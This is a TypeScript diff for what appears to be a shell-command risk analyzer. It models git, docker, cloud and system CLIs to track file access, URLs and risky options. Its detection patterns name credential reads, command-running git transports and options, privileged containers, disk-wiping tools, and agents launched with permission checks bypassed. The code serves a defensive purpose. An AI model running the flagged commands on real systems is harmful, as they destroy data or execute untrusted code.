+/** `REV:path` object names read a file's content from history. */
+function revPaths(c: GitCtx, fields: Field[]): void {
+  for (const x of fields) {
+    const m = /^[^:]*:(.+)$/.exec(x.text);
+    if (!m || /^[a-z]+:\/\//.test(x.text)) continue;
+    const rel = m[1]!;
+    const base = rel.startsWith('./') || rel.startsWith('../') ? c.a.cwdList(c.st)[0]! : repoRoot(c);
+    c.a.path({ ...x, text: resolveLexical(base, rel) }, 'read', `git ${c.sub} REV:path`, c.st);
+  }
+}
+
+const GIT_PUSH_SPEC: OptSpec = {
+  short: 'o',
+  long: ['repo', 'receive-pack', 'exec', 'push-option', 'signed', 'force-with-lease', 'recurse-submodules'],
+  groups: [['-f', '--force'], ['-d', '--delete'], ['-n', '--dry-run'], ['-u', '--set-upstream']],
+  flags: ['--force-with-lease', '--force-if-includes', '--mirror', '--all', '--tags', '--prune', '--atomic', '--no-verify', '--follow-tags', '--thin', '--porcelain'],
+};
+
+const GIT_SUBCOMMANDS: Record<string, (c: GitCtx) => void> = {
+  push: (c) => {
+    const p = parseArgs(c.args, GIT_PUSH_SPEC);
+    const extra: string[] = [];
+    const [remote, ...refspecs] = p.operands;
+    if (has(p, '-f', '--force', '--force-with-lease', '--force-if-includes', '--mirror') || p.values.has('--force-with-lease') || refspecs.some((r) => r.text.startsWith('+'))) extra.push('--force', '-f');
+    if (has(p, '-d', '--delete', '--prune', '--mirror') || refspecs.some((r) => r.text.startsWith(':') && r.text.length > 1)) extra.push('--delete', '-d');
+    gitEmit(c, p, ['push'], extra);
+    for (const e of allValues(p, '--receive-pack', '--exec')) c.a.risk('git-config-exec', `git push --receive-pack=${e.text}`);
+    if (remote && (looksLikeUrl(remote.text) || remoteSpec(remote.text))) addUrl(c.a, c.inv, looksLikeUrl(remote.text) ? remote.text : `ssh://${remoteSpec(remote.text)!.host}`, 'git push');
+  },
+  reset: (c) => {
+    gitGeneric(c, { groups: [['-q', '--quiet']], flags: ['--hard', '--soft', '--mixed', '--merge', '--keep'] });
+  },
+  clean: (c) => {
+    const p = parseArgs(c.args, { short: 'eE', long: ['exclude'], groups: [['-f', '--force'], ['-n', '--dry-run'], ['-d'], ['-x'], ['-X'], ['-i', '--interactive'], ['-q', '--quiet']] });
+    gitEmit(c, p, ['clean']);
+    if (has(p, '-f', '--force') && !has(p, '-n', '--dry-run')) {
+      for (const o of p.operands.length ? p.operands : [f('.')]) c.a.path(o, 'delete', 'git clean', c.st, { recursive: has(p, '-d') });
+    }
+  },
+  checkout: (c) => {
+    const p = parseArgs(c.args, { short: 'bBt', long: ['orphan', 'track', 'conflict', 'pathspec-from-file'], groups: [['-f', '--force'], ['-p', '--patch']] });
+    gitEmit(c, p, ['checkout']);
+    for (const o of p.afterDashDash) c.a.path(o, 'write', 'git checkout -- path', c.st);
+    if (!p.afterDashDash.length && p.operands.some((o) => o.text === '.')) c.a.path(f('.'), 'write', 'git checkout .', c.st, { recursive: true });
+  },
+  restore: (c) => {
+    const p = parseArgs(c.args, { short: 's', long: ['source', 'pathspec-from-file', 'conflict'], groups: [['-S', '--staged'], ['-W', '--worktree']] });
+    gitEmit(c, p, ['restore']);
+    if (!has(p, '-S', '--staged') || has(p, '-W', '--worktree')) for (const o of p.operands) c.a.path(o, 'write', 'git restore', c.st, { recursive: o.text === '.' });
+  },
+  rm: (c) => {
+    const p = parseArgs(c.args, { long: ['pathspec-from-file'], groups: [['-r'], ['-f', '--force'], ['--cached']] });
+    gitEmit(c, p, ['rm']);
+    if (!has(p, '--cached')) for (const o of p.operands) c.a.path(o, 'delete', 'git rm', c.st, { recursive: has(p, '-r') });
+  },
+  mv: (c) => {
+    const p = parseArgs(c.args, { groups: [['-f', '--force'], ['-k'], ['-n', '--dry-run']] });
+    gitEmit(c, p, ['mv']);
+    const ops = p.operands;
+    ops.slice(0, -1).forEach((o) => {
+      c.a.path(o, 'read', 'git mv source', c.st, { recursive: true });
+      c.a.path(o, 'delete', 'git mv source', c.st, { recursive: true });
+    });
+    if (ops.length > 1) c.a.path(ops[ops.length - 1]!, 'write', 'git mv destination', c.st, { recursive: true });
+  },
+  add: (c) => void gitGeneric(c, { long: ['chmod', 'pathspec-from-file'] }, 'read'),
+  stage: (c) => void gitGeneric(c, { long: ['pathspec-from-file'] }, 'read'),
+  show: (c) => {
+    const p = gitGeneric(c, { long: ['format', 'pretty', 'output', 'stat'] });
+    revPaths(c, p.operands);
+    for (const o of allValues(p, '--output')) c.a.path(o, 'write', 'git show --output', c.st);
+  },
+  'cat-file': (c) => {
+    const p = gitGeneric(c, { long: ['batch', 'filters', 'path'] });
+    revPaths(c, p.operands);
+  },
+  log: (c) => void revPaths(c, gitGeneric(c, { short: 'nLG', long: ['format', 'pretty', 'since', 'until', 'author', 'grep', 'output', 'max-count'] }).operands),
+  diff: (c) => {
+    const p = gitGeneric(c, { long: ['output', 'diff-filter', 'relative', 'stat', 'word-diff-regex'] });
+    revPaths(c, p.operands);
+    if (has(p, '--no-index')) for (const o of p.operands) c.a.path(o, 'read', 'git diff --no-index', c.st);
+    for (const o of allValues(p, '--output')) c.a.path(o, 'write', 'git diff --output', c.st);
+    if (has(p, '--ext-diff')) c.a.risk('git-config-exec', 'git diff --ext-diff runs the configured external diff program');
+  },
+  blame: (c) => void gitGeneric(c, { short: 'LSC', long: ['contents', 'ignore-rev', 'ignore-revs-file'] }, 'read'),
+  annotate: (c) => void gitGeneric(c, {}, 'read'),
+  grep: (c) => {
+    const p = parseArgs(c.args, { short: 'efABCm', long: ['max-depth', 'threads', 'open-files-in-pager'] });
+    gitEmit(c, p, ['grep']);
+    const rest = p.afterDashDash.length ? p.afterDashDash : [];
+    for (const o of rest) c.a.path(o, 'read', 'git grep path', c.st, { recursive: true });
+    revPaths(c, p.operands);
+    if (p.values.has('-O') || has(p, '--open-files-in-pager')) c.a.risk('git-config-exec', 'git grep -O opens results in a program');
+  },
+  archive: (c) => {
+    const p = gitGeneric(c, { short: 'o', long: ['output', 'format', 'prefix', 'remote', 'exec'] });
+    for (const o of allValues(p, '-o', '--output')) c.a.path(o, 'write', 'git archive --output', c.st);
+    for (const e of allValues(p, '--exec')) c.a.risk('git-config-exec', `git archive --exec=${e.text}`);
+    revPaths(c, p.operands);
+  },
+  config: (c) => {
+    const p = parseArgs(c.args, { short: 'f', long: ['file', 'blob', 'type', 'default', 'comment'], flags: ['--global', '--system', '--local', '--worktree', '--get', '--get-all', '--get-regexp', '--list', '--unset', '--unset-all', '--add', '--replace-all', '--show-origin'] });
+    const ops = p.operands;
+    let action = ops[0]?.text ?? '';
+    let kv = ops;
+    if (['get', 'set', 'unset', 'list', 'edit', 'rename-section', 'remove-section'].includes(action)) kv = ops.slice(1);
+    else action = '';
+    const reading = has(p, '--get', '--get-all', '--get-regexp', '--list', '-l', '--show-origin') || action === 'get' || action === 'list' || (!action && kv.length === 1);
+    gitEmit(c, p, action ? ['config', action] : ['config']);
+    if (reading) {
+      if (kv[0] && /credential|token|password/i.test(kv[0].text)) c.a.risk('env-dump', `git config reads ${kv[0].text}`);
+      return;
+    }
+    const file = value(p, '-f', '--file');
+    const target = file ? file.text : has(p, '--global') ? `${c.a.env.home}/.gitconfig` : has(p, '--system') ? '/etc/gitconfig' : `${repoRoot(c)}/.git/config`;
+    c.a.path(f(target), 'write', 'git config', c.st);
+    const key = kv[0]?.text.toLowerCase() ?? '';
+    const val = kv[1];
+    if (GIT_EXEC_KEYS.test(key)) {
+      c.a.risk('git-config-exec', `git config ${key}${val ? ` ${val.text}` : ''}`);
+      if (val && key.startsWith('alias.') && val.text.startsWith('!')) runText(c.a, { ...c.inv, st: c.st }, { ...val, text: val.text.slice(1) }, `git config ${key}`);
+    }
+  },
+  clone: (c) => {
+    const p = parseArgs(c.args, { short: 'obcju', long: ['origin', 'branch', 'config', 'depth', 'template', 'upload-pack', 'reference', 'separate-git-dir', 'jobs', 'filter'] });
+    gitEmit(c, p, ['clone']);
+    for (const cfg of allValues(p, '-c', '--config')) gitConfigValue(c.a, c.inv, cfg, new Map());
+    for (const u of allValues(p, '-u', '--upload-pack')) c.a.risk('git-config-exec', `git clone --upload-pack=${u.text}`);
+    const [src, dest] = p.operands;
+    if (src) {
+      const r = remoteSpec(src.text);
+      if (looksLikeUrl(src.text)) addUrl(c.a, c.inv, src.text, 'git clone');
+      else if (r) addUrl(c.a, c.inv, `ssh://${r.host}`, 'git clone');
+      else c.a.path(src, 'read', 'git clone source', c.st, { recursive: true });
+      if (/^ext::/.test(src.text)) c.a.risk('git-config-exec', `git clone ${src.text} runs a command as transport`);
+    }
+    const name = dest?.text ?? basename(src?.text ?? DYN).replace(/\.git$/, '');
+    c.a.path(f(name), 'write', 'git clone destination', c.st, { recursive: true });
+  },
+  fetch: (c) => gitRemoteOp(c),
+  pull: (c) => gitRemoteOp(c),
+  'ls-remote': (c) => gitRemoteOp(c),
+  remote: (c) => {
+    const p = parseArgs(c.args, { short: 'tm', long: ['track', 'master', 'push'] });
+    const [action, ...rest] = p.operands;
+    gitEmit(c, p, action ? ['remote', action.text] : ['remote']);
+    if (action && ['add', 'set-url'].includes(action.text)) {
+      const url = rest[rest.length - 1];
+      if (url) {
+        c.a.path(f(`${repoRoot(c)}/.git/config`), 'write', `git remote ${action.text}`, c.st);
+        const r = remoteSpec(url.text);
+        if (looksLikeUrl(url.text)) addUrl(c.a, c.inv, url.text, `git remote ${action.text}`);
+        else if (r) addUrl(c.a, c.inv, `ssh://${r.host}`, `git remote ${action.text}`);
+      }
+    }
+  },
+  stash: (c) => {
+    const p = parseArgs(c.args, { short: 'm', long: ['message', 'pathspec-from-file'] });
+    const action = p.operands[0]?.text;
+    gitEmit(c, p, action && !action.startsWith('-') ? ['stash', action] : ['stash']);
+  },
+  branch: (c) => {
+    const p = parseArgs(c.args, { short: 'utm', long: ['set-upstream-to', 'contains', 'merged', 'format', 'sort', 'points-at'], groups: [['-d', '--delete'], ['-D'], ['-f', '--force'], ['-m', '--move'], ['-M'], ['-r', '--remotes']] });
+    gitEmit(c, p, ['branch'], has(p, '-D') ? ['--delete', '--force'] : []);
+  },
+  tag: (c) => void gitGeneric(c, { short: 'mFu', groups: [['-d', '--delete'], ['-f', '--force']] }),
+  'update-ref': (c) => void gitGeneric(c, { short: 'm', groups: [['-d']] }),
+  reflog: (c) => {
+    const p = parseArgs(c.args, { long: ['expire', 'expire-unreachable'] });
+    gitEmit(c, p, p.operands[0] ? ['reflog', p.operands[0].text] : ['reflog']);
+  },
+  gc: (c) => void gitGeneric(c, { long: ['prune'] }),
+  'filter-branch': (c) => {
+    const p = gitGeneric(c, { long: ['env-filter', 'tree-filter', 'index-filter', 'parent-filter', 'msg-filter', 'commit-filter', 'tag-name-filter', 'subdirectory-filter', 'original', 'state-branch'] });
+    for (const opt of ['--env-filter', '--tree-filter', '--index-filter', '--parent-filter', '--msg-filter', '--commit-filter']) for (const v of allValues(p, opt)) runText(c.a, { ...c.inv, st: c.st }, v, `git filter-branch ${opt}`);
+  },
+  rebase: (c) => {
+    const p = gitGeneric(c, { short: 'xsX', long: ['exec', 'onto', 'strategy', 'strategy-option'], groups: [['-i', '--interactive']] });
+    for (const e of allValues(p, '-x', '--exec')) runText(c.a, { ...c.inv, st: c.st }, e, 'git rebase --exec');
+  },
+  bisect: (c) => {
+    const p = parseArgs(c.args);
+    gitEmit(c, p, p.operands[0] ? ['bisect', p.operands[0].text] : ['bisect']);
+    if (p.operands[0]?.text === 'run') c.a.exec(p.operands.slice(1), c.st, { env: c.inv.env, stdin: { kind: 'none' }, via: [...c.inv.via, 'git bisect run'], depth: c.inv.depth + 1 });
+  },
+  submodule: (c) => {
+    const p = parseArgs(c.args, { stopAtOperand: true });
+    const action = p.rest[0];
+    gitEmit(c, p, action ? ['submodule', action.text] : ['submodule']);
+    if (action?.text === 'foreach') {
+      const cmd = p.rest.slice(1).filter((x) => x.text !== '--recursive' && x.text !== '-q' && x.text !== '--quiet');
+      if (cmd.length) runText(c.a, { ...c.inv, st: c.st }, { text: cmd.map((x) => x.text).join(' '), dynamic: cmd.some((x) => x.dynamic) }, 'git submodule foreach');
+    }
+  },
+  commit: (c) => {
+    const p = gitGeneric(c, { short: 'mFCcut', long: ['message', 'file', 'reuse-message', 'reedit-message', 'author', 'date', 'template', 'fixup', 'squash', 'cleanup', 'trailer', 'pathspec-from-file'], groups: [['-a', '--all'], ['-n', '--no-verify']] });
+    for (const file of allValues(p, '-F', '--file', '-t', '--template')) if (file.text !== '-') c.a.path(file, 'read', 'git commit message file', c.st);
+  },
+  apply: (c) => void gitGeneric(c, { short: 'pC', long: ['directory', 'exclude', 'include'] }, 'read'),
+  am: (c) => void gitGeneric(c, { short: 'pC', long: ['directory', 'exclude', 'include'] }, 'read'),
+  'format-patch': (c) => {
+    const p = gitGeneric(c, { short: 'o', long: ['output-directory', 'subject-prefix'] });
+    for (const o of allValues(p, '-o', '--output-directory')) c.a.path(o, 'write', 'git format-patch -o', c.st, { recursive: true });
+  },
+  'send-email': (c) => {
+    const p = gitGeneric(c, { long: ['to', 'cc', 'bcc', 'from', 'smtp-server', 'sendmail-cmd'] });
+    for (const o of p.operands) c.a.path(o, 'read', 'git send-email patch', c.st);
+    c.a.url({ url: 'smtp://mail', host: value(p, '--smtp-server')?.text ?? 'smtp', scheme: 'smtp', via: 'git send-email', sends: 'file' });
+  },
+  difftool: (c) => {
+    const p = gitGeneric(c, { short: 'xty', long: ['extcmd', 'tool'] });
+    for (const e of allValues(p, '-x', '--extcmd')) runText(c.a, { ...c.inv, st: c.st }, e, 'git difftool --extcmd');
+  },
+  worktree: (c) => {
+    const p = parseArgs(c.args, { short: 'bB', long: ['reason'] });
+    const [action, path] = p.operands;
+    gitEmit(c, p, action ? ['worktree', action.text] : ['worktree']);
+    if (action?.text === 'add' && path) c.a.path(path, 'write', 'git worktree add', c.st, { recursive: true });
+    if (action?.text === 'remove' && path) c.a.path(path, 'delete', 'git worktree remove', c.st, { recursive: true });
+  },
+  credential: (c) => {
+    const p = parseArgs(c.args);
+    gitEmit(c, p, p.operands[0] ? ['credential', p.operands[0].text] : ['credential']);
+  },
+  'credential-store': (c) => void gitGeneric(c, {}),
+  init: (c) => void gitGeneric(c, { long: ['template', 'separate-git-dir', 'initial-branch'] }, 'write'),
+  hook: (c) => {
+    const p = parseArgs(c.args);
+    gitEmit(c, p, p.operands[0] ? ['hook', p.operands[0].text] : ['hook']);
+  },
+};
+
+function gitRemoteOp(c: GitCtx): void {
+  const p = parseArgs(c.args, { short: 'ojt', long: ['upload-pack', 'depth', 'jobs', 'refmap', 'server-option', 'strategy', 'strategy-option'], groups: [['-f', '--force']] });
+  gitEmit(c, p, [c.sub]);
+  for (const u of allValues(p, '--upload-pack')) c.a.risk('git-config-exec', `git ${c.sub} --upload-pack=${u.text}`);
+  const remote = p.operands[0];
+  if (remote && looksLikeUrl(remote.text)) addUrl(c.a, c.inv, remote.text, `git ${c.sub}`);
+  else if (remote && remoteSpec(remote.text)) addUrl(c.a, c.inv, `ssh://${remoteSpec(remote.text)!.host}`, `git ${c.sub}`);
+}
+
+// ── containers and cloud CLIs ───────────────────────────────────────────
+
+on(['docker', 'podman', 'nerdctl'], (a, inv) => {
+  const globalP = parseArgs(inv.args, { stopAtOperand: true, short: 'cHl', long: ['config', 'context', 'host', 'log-level', 'tlscacert', 'tlscert', 'tlskey'] });
+  const [sub, ...rest] = globalP.rest;
+  const p = parseArgs(rest, {
+    short: 'vefwpuhlmtic',
+    long: ['volume', 'mount', 'env', 'env-file', 'file', 'workdir', 'publish', 'user', 'name', 'network', 'entrypoint', 'secret', 'build-arg', 'tag', 'label', 'platform', 'memory', 'cpus', 'cap-add', 'device', 'security-opt', 'hostname', 'add-host', 'target', 'output', 'cache-from', 'ssh'],
+  });
+  const subWords = sub ? [sub.text, ...(sub.text === 'compose' || sub.text === 'buildx' || sub.text === 'image' || sub.text === 'container' || sub.text === 'volume' || sub.text === 'system' ? p.operands.slice(0, 1).map((x) => x.text) : [])] : [];
+  emit(a, inv, p, subWords, globalP.flags);
+  for (const v of allValues(p, '-v', '--volume')) {
+    const src = v.text.split(':')[0]!;
+    if (src.startsWith('/') || src.startsWith('.') || src.startsWith('~') || src.startsWith(DYN)) {
+      a.path({ ...v, text: src }, 'read', `${inv.program} volume`, inv.st, { recursive: true });
+      if (!/:ro(,|$)/.test(v.text)) a.path({ ...v, text: src }, 'write', `${inv.program} volume`, inv.st, { recursive: true });
+    }
+  }
+  for (const m of allValues(p, '--mount')) {
+    const src = /(?:^|,)(?:source|src)=([^,]+)/.exec(m.text)?.[1];
+    if (src && /(^|,)type=bind/.test(m.text)) a.path({ ...m, text: src }, 'read', `${inv.program} bind mount`, inv.st, { recursive: true });
+  }
+  for (const s of allValues(p, '--secret')) {
+    const src = /(?:^|,)(?:src|source)=([^,]+)/.exec(s.text)?.[1];
+    if (src) a.path({ ...s, text: src }, 'read', `${inv.program} --secret`, inv.st);
+  }
+  for (const ef of allValues(p, '--env-file')) a.path(ef, 'read', `${inv.program} --env-file`, inv.st);
+  if (sub?.text === 'build' || sub?.text === 'buildx') for (const df of allValues(p, '-f', '--file')) a.path(df, 'read', `${inv.program} build file`, inv.st);
+  if (sub?.text === 'cp') {
+    const [from, to] = p.operands;
+    if (from && !/^[\w.-]+:/.test(from.text)) a.path(from, 'read', `${inv.program} cp source`, inv.st, { recursive: true });
+    if (to && !/^[\w.-]+:/.test(to.text)) a.path(to, 'write', `${inv.program} cp destination`, inv.st, { recursive: true });
+  }
+  if (has(p, '--privileged')) a.risk('shell-state-change', `${inv.program} --privileged gives a container full access to the host`);
+});
+
+/** CLIs whose first words name an action; global options that take values are skipped. */
+const CLI_SUBCOMMAND_DEPTH: Record<string, { depth: number; spec: OptSpec; files?: string[] }> = {
+  kubectl: { depth: 2, spec: { short: 'nsflco', long: ['namespace', 'context', 'kubeconfig', 'server', 'cluster', 'user', 'token', 'selector', 'filename', 'output', 'container', 'from-file', 'from-env-file', 'as'] }, files: ['-f', '--filename', '--kubeconfig', '--from-file', '--from-env-file'] },
+  oc: { depth: 2, spec: { short: 'nsfl', long: ['namespace', 'context', 'kubeconfig', 'server', 'filename'] }, files: ['-f', '--filename', '--kubeconfig'] },
+  helm: { depth: 2, spec: { short: 'nfo', long: ['namespace', 'kube-context', 'kubeconfig', 'values', 'set', 'set-file', 'version', 'repo', 'output'] }, files: ['-f', '--values', '--kubeconfig', '--set-file'] },
+  terraform: { depth: 2, spec: { long: ['chdir', 'var', 'var-file', 'target', 'state', 'out', 'backend-config'] }, files: ['--var-file', '--backend-config'] },
+  tofu: { depth: 2, spec: { long: ['chdir', 'var', 'var-file', 'target', 'state', 'out'] }, files: ['--var-file'] },
+  terragrunt: { depth: 2, spec: {} },
+  pulumi: { depth: 2, spec: { short: 'sC', long: ['stack', 'cwd', 'config'] } },
+  aws: { depth: 2, spec: { long: ['profile', 'region', 'output', 'endpoint-url', 'query', 'cli-input-json', 'cli-input-yaml'] } },
+  gcloud: { depth: 3, spec: { long: ['project', 'account', 'configuration', 'format', 'region', 'zone', 'filter', 'verbosity', 'impersonate-service-account', 'flags-file', 'source'] }, files: ['--flags-file'] },
+  gsutil: { depth: 1, spec: { short: 'ohmpu' } },
+  az: { depth: 3, spec: { long: ['subscription', 'resource-group', 'output', 'query', 'name'] } },
+  gh: { depth: 2, spec: { short: 'RBtbFfr', long: ['repo', 'body', 'title', 'base', 'head', 'body-file', 'field', 'raw-field', 'ref', 'notes', 'notes-file', 'method', 'input'] }, files: ['--body-file', '--notes-file', '-F'] },
+  glab: { depth: 2, spec: { short: 'Rm', long: ['repo', 'message'] } },
+  npm: { depth: 2, spec: { short: 'w', long: ['workspace', 'prefix', 'registry', 'tag', 'access', 'otp', 'userconfig'] }, files: ['--userconfig'] },
+  pnpm: { depth: 2, spec: { short: 'FC', long: ['filter', 'dir', 'registry', 'tag', 'access'] } },
+  yarn: { depth: 2, spec: { long: ['cwd', 'registry', 'tag', 'access', 'new-version'] } },
+  bun: { depth: 2, spec: { long: ['cwd', 'registry'] } },
+  cargo: { depth: 2, spec: { short: 'pj', long: ['manifest-path', 'package', 'jobs', 'target', 'features', 'token', 'registry', 'index', 'config'] } },
+  gem: { depth: 2, spec: { long: ['key', 'host', 'otp'] } },
+  twine: { depth: 1, spec: { short: 'ruc', long: ['repository', 'repository-url', 'username', 'password', 'config-file'] } },
+  poetry: { depth: 2, spec: { short: 'r', long: ['repository', 'username', 'password'] } },
+  uv: { depth: 2, spec: { long: ['index', 'index-url', 'token', 'publish-url', 'directory', 'project'] } },
+  dotnet: { depth: 2, spec: { short: 'cko', long: ['configuration', 'api-key', 'source', 'output'] } },
+  vercel: { depth: 1, spec: { short: 'tAS', long: ['token', 'scope', 'local-config'] } },
+  netlify: { depth: 1, spec: { long: ['site', 'auth', 'dir'] } },
+  firebase: { depth: 2, spec: { short: 'P', long: ['project', 'only', 'token'] } },
+  flyctl: { depth: 2, spec: { short: 'ac', long: ['app', 'config', 'image'] } },
+  fly: { depth: 2, spec: { short: 'ac', long: ['app', 'config', 'image'] } },
+  heroku: { depth: 2, spec: { short: 'ar', long: ['app', 'remote'] } },
+  serverless: { depth: 2, spec: { short: 'scr', long: ['stage', 'config', 'region'] } },
+  sls: { depth: 2, spec: { short: 'scr', long: ['stage', 'config', 'region'] } },
+  cdk: { depth: 1, spec: { short: 'ac', long: ['app', 'context', 'profile'] } },
+  sam: { depth: 1, spec: { short: 't', long: ['template-file', 'stack-name', 'profile', 'region'] } },
+  wrangler: { depth: 2, spec: { short: 'ec', long: ['env', 'config', 'name'] } },
+  eksctl: { depth: 2, spec: { short: 'f', long: ['config-file', 'cluster', 'region'] } },
+  doctl: { depth: 3, spec: { short: 't', long: ['access-token', 'context'] } },
+  ansible: { depth: 1, spec: { short: 'imMaeu', long: ['inventory', 'module-name', 'args', 'extra-vars', 'user'] } },
+  'ansible-playbook': { depth: 1, spec: { short: 'ieul', long: ['inventory', 'extra-vars', 'user', 'limit', 'vault-password-file'] }, files: ['--vault-password-file'] },
+  skaffold: { depth: 1, spec: { short: 'fp', long: ['filename', 'profile'] } },
+  argocd: { depth: 2, spec: { long: ['server', 'auth-token'] } },
+  railway: { depth: 1, spec: { short: 's', long: ['service', 'environment'] } },
+  goreleaser: { depth: 1, spec: { short: 'f', long: ['config'] } },
+  docker_compose: { depth: 1, spec: {} },
+  mvn: { depth: 1, spec: { short: 'fspPD', long: ['file', 'settings', 'projects', 'activate-profiles'] } },
+  gradle: { depth: 1, spec: { short: 'bcpPD', long: ['build-file', 'project-dir'] } },
+  './gradlew': { depth: 1, spec: { short: 'bcpPD' } },
+  make: { depth: 1, spec: { short: 'fCIjloW', long: ['file', 'directory', 'include-dir', 'jobs', 'load-average', 'what-if', 'old-file'] }, files: ['-f', '--file'] },
+  just: { depth: 1, spec: { short: 'fd', long: ['justfile', 'working-directory', 'set'] } },
+  pip: { depth: 1, spec: { short: 'rcei', long: ['requirement', 'constraint', 'editable', 'index-url', 'extra-index-url', 'target', 'prefix', 'root'] }, files: ['-r', '--requirement', '-c', '--constraint'] },
+  pip3: { depth: 1, spec: { short: 'rcei', long: ['requirement', 'constraint', 'editable', 'index-url', 'extra-index-url', 'target'] }, files: ['-r', '--requirement'] },
+  go: { depth: 1, spec: { short: 'oCp', long: ['modfile', 'tags', 'ldflags', 'gcflags', 'run', 'count', 'timeout'] } },
+  claude: { depth: 1, spec: { short: 'pr', long: ['print', 'resume', 'model', 'permission-mode', 'settings', 'setting-sources', 'mcp-config', 'allowedTools', 'allowed-tools', 'disallowedTools', 'append-system-prompt', 'output-format', 'input-format', 'add-dir', 'agents', 'session-id'] } },
+  codex: { depth: 1, spec: { short: 'cmas', long: ['config', 'model', 'sandbox', 'ask-for-approval'] } },
+  gemini: { depth: 1, spec: { short: 'pm', long: ['prompt', 'model'] } },
+  aider: { depth: 1, spec: { short: 'm', long: ['message', 'model'] } },
+  systemctl: { depth: 1, spec: { short: 'tpHMn', long: ['type', 'property', 'host', 'machine', 'lines'] } },
+  launchctl: { depth: 1, spec: {} },
+  service: { depth: 2, spec: {} },
+  mkfs: { depth: 0, spec: { short: 'tLbcCiIjJmNOTU' } },
+  fdisk: { depth: 0, spec: { short: 'bcCHSuL' } },
+  parted: { depth: 0, spec: { short: 'a' } },
+  wipefs: { depth: 0, spec: { short: 'bot' } },
+  sgdisk: { depth: 0, spec: {} },
+  mkswap: { depth: 0, spec: { short: 'LpU' } },
+  diskutil: { depth: 1, spec: {} },
+  mount: { depth: 0, spec: { short: 'tLUoO' } },
+  umount: { depth: 0, spec: { short: 't' } },
+  shutdown: { depth: 0, spec: {} },
+  reboot: { depth: 0, spec: {} },
+  halt: { depth: 0, spec: {} },
+  poweroff: { depth: 0, spec: {} },
+  iptables: { depth: 0, spec: { short: 'ADIRNXPLFZEtjiopsdm' } },
+  ufw: { depth: 1, spec: {} },
+  useradd: { depth: 0, spec: { short: 'cdeGgkKmpsu' } },
+  usermod: { depth: 0, spec: { short: 'cdeGglpsu' } },
+  passwd: { depth: 0, spec: {} },
+  visudo: { depth: 0, spec: { short: 'f' } },
+  npx: { depth: 1, spec: { short: 'pc', long: ['package', 'call'] } },
+  bunx: { depth: 1, spec: {} },
+  pnpx: { depth: 1, spec: {} },
+};
+
+function cliHandler(a: ShellAnalyzer, inv: Invocation): void {
+  const name = inv.program.startsWith('mkfs') ? 'mkfs' : inv.program;
+  const entry = CLI_SUBCOMMAND_DEPTH[name] ?? CLI_SUBCOMMAND_DEPTH[inv.invokedAs]!;
+  const p = parseArgs(inv.args, entry.spec);
+  const sub = p.operands.slice(0, entry.depth).filter((x) => !x.dynamic).map((x) => x.text);
+  emit(a, inv, p, sub);
+  for (const opt of entry.files ?? []) for (const v of allValues(p, opt)) a.path(v, 'read', `${inv.program} ${opt}`, inv.st);
+  if (name === 'mkfs' || name === 'fdisk' || name === 'parted' || name === 'wipefs' || name === 'sgdisk' || name === 'mkswap') {
+    for (const o of p.operands) if (o.text.startsWith('/dev/')) a.path(o, 'write', `${inv.program} device`, inv.st);
+  }
+  if (name === 'make' || name === 'just') {
+    const dir = value(p, '-C', '--directory', '-d', '--working-directory');
+    if (dir) a.path(dir, 'list', `${inv.program} -C`, inv.st);
+  }
+  if (name === 'claude' || name === 'codex' || name === 'gemini' || name === 'aider') {
+    a.risk('nested-agent', `${inv.program} starts another coding agent${p.flags.some((x) => /dangerously|bypass|skip-permissions|bare|yolo/i.test(x)) ? ' without its permission checks' : ''}`);
+  }
+  for (const u of p.operands) if (looksLikeUrl(u.text)) addUrl(a, inv, u.text, inv.program);
+}
+on(Object.keys(CLI_SUBCOMMAND_DEPTH), cliHandler);
+on(['mkfs.ext4', 'mkfs.ext3', 'mkfs.ext2', 'mkfs.xfs', 'mkfs.btrfs', 'mkfs.vfat', 'mkfs.fat', 'mkfs.ntfs', 'mkfs.exfat', 'mke2fs', 'newfs', 'newfs_apfs'], cliHandler);
+
+// ── text utilities ──────────────────────────────────────────────────────
+
+export function unescapeC(s: string): string {
+  return s.replace(/\\(x[0-9a-fA-F]{1,2}|u[0-9a-fA-F]{4}|[0-7]{1,3}|[abefnrtv\\'"?])/g, (_m, e: string) => {
+    if (e[0] === 'x' || e[0] === 'u') return String.fromCharCode(parseInt(e.slice(1), 16));
+    if (/^[0-7]/.test(e)) return String.fromCharCode(parseInt(e, 8) & 0xff);
+    const map: Record<string, string> = { a: '\x07', b: '\b', e: '\x1b', f: '\f', n: '\n', r: '\r', t: '\t', v: '\v', '\\': '\\', "'": "'", '"': '"', '?': '?' };
+    return map[e] ?? e;
+  });
+}
+
+function formatPrintf(fmt: string, args: string[]): string | null {
+  let out = '';
+  let ai = 0;
+  let guard = 0;
+  do {
+    let ok = true;
+    const text = fmt.replace(/%(%|[-+ #0]*\d*(?:\.\d+)?[sbdiuxXoc])|\\(x[0-9a-fA-F]{1,2}|[0-7]{1,3}|[abefnrtv\\'"?])/g, (m, spec?: string) => {
+      if (m.startsWith('\\')) return unescapeC(m);
+      if (spec === '%') return '%';
+      const conv = spec!.slice(-1);
+      const arg = args[ai++] ?? '';
+      if (conv === 's') return arg;
+      if (conv === 'b') return unescapeC(arg);
+      if (conv === 'c') return arg.charAt(0);
+      const n = Number(arg || 0);
+      if (!Number.isFinite(n)) {
+        ok = false;
+        return '';
+      }
+      if (conv === 'x') return Math.trunc(n).toString(16);
+      if (conv === 'X') return Math.trunc(n).toString(16).toUpperCase();
+      if (conv === 'o') return Math.trunc(n).toString(8);
+      return String(Math.trunc(n));
+    });
+    if (!ok || /%[^%sbdiuxXoc]/.test(fmt.replace(/%%/g, ''))) return null;
+    out += text;
+  } while (ai < args.length && /%[sbdiuxXoc]/.test(fmt) && ++guard < 64);
+  return out;
+}
